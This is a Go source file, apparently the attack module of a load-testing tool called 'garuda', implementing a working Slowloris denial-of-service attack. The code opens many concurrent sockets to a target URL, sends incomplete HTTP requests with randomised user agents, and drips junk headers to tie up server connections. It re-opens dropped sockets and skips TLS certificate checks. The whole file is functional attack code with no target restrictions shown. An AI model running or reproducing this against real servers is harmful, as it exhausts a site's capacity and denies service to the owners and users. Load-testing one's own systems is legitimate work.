package engine

import (
	"context"
	"crypto/tls"
	"fmt"
	"math/rand"
	"net"
	"net/url"
	"sync"
	"time"

	"github.com/garuda-lt/garuda/internal/config"
)

// keepAliveInterval is how often each held socket drips another partial
// header to keep the server waiting for the request to complete.
const keepAliveInterval = 10 * time.Second

type slowloris struct {
	target      string
	connections int
	interval    time.Duration
}

func newSlowloris(cfg config.Resolved) *slowloris {
	return &slowloris{
		target:      cfg.Target,
		connections: cfg.Connections,
		interval:    keepAliveInterval,
	}
}

func (a *slowloris) Kind() Kind { return KindSlowloris }

// Run opens a.connections sockets against the target, sends an incomplete
// request on each, and drips keep-alive headers until ctx is done. Dropped
// connections are re-opened.
func (a *slowloris) Run(ctx context.Context, stats *Stats) error {
	addr, useTLS, err := dialAddr(a.target)
	if err != nil {
		return err
	}

	var wg sync.WaitGroup
	for i := 0; i < a.connections; i++ {
		wg.Add(1)
		go func(seed int64) {
			defer wg.Done()
			rng := rand.New(rand.NewSource(seed))
			for ctx.Err() == nil {
				a.hold(ctx, addr, useTLS, rng, stats)
			}
		}(time.Now().UnixNano() + int64(i))
	}
	wg.Wait()
	return nil
}

// hold runs one socket lifetime: connect, send the partial request, then drip
// headers until the connection drops or ctx is done.
func (a *slowloris) hold(ctx context.Context, addr string, useTLS bool, rng *rand.Rand, stats *Stats) {
	start := time.Now()
	conn, err := dial(ctx, addr, useTLS)
	if err != nil {
		stats.RecordFailure(err)
		// Back off so a refusing target does not turn this into a busy loop.
		select {
		case <-ctx.Done():
		case <-time.After(time.Second):
		}
		return
	}
	defer conn.Close()

	stats.RecordSuccess(time.Since(start))
	stats.AddHeld(1)
	defer stats.AddHeld(-1)

	// Declared Content-Length with no body: the server keeps the request
	// open as long as headers keep trickling in.
	if _, err := fmt.Fprintf(conn, "GET /?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Length: 42\r\n",
		rng.Intn(1<<20), hostOnly(addr), userAgents[rng.Intn(len(userAgents))]); err != nil {
		return
	}

	ticker := time.NewTicker(a.interval)
	defer ticker.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			if _, err := fmt.Fprintf(conn, "X-a: %d\r\n", rng.Intn(1<<20)); err != nil {
				return
			}
		}
	}
}

func dial(ctx context.Context, addr string, useTLS bool) (net.Conn, error) {
	d := &net.Dialer{Timeout: 10 * time.Second}
	if useTLS {
		td := &tls.Dialer{NetDialer: d, Config: &tls.Config{InsecureSkipVerify: true}}
		return td.DialContext(ctx, "tcp", addr)
	}
	return d.DialContext(ctx, "tcp", addr)
}

// dialAddr derives host:port and the TLS requirement from the target URL.
func dialAddr(target string) (addr string, useTLS bool, err error) {
	u, err := url.Parse(target)
	if err != nil {
		return "", false, fmt.Errorf("invalid target URL: %w", err)
	}
	if u.Hostname() == "" {
		return "", false, fmt.Errorf("target URL %q has no hostname", target)
	}

	port := u.Port()
	switch {
	case port != "":
	case u.Scheme == "https":
		port = "443"
	default:
		port = "80"
	}
	return net.JoinHostPort(u.Hostname(), port), u.Scheme == "https", nil
}

func hostOnly(addr string) string {
	host, _, err := net.SplitHostPort(addr)
	if err != nil {
		return addr
	}
	return host
}
